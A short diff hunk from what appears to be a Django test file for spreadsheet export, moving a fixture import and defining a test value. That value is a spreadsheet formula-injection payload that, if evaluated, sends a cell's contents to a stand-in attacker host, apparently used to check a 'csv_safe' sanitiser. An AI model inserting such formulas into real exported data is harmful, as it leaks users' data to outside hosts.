@@ -9,7 +9,7 @@ import zipfile
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from tests.community.conftest import household
+from tests.support.households import household
 from xaso.core.spreadsheets import csv_safe
 
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
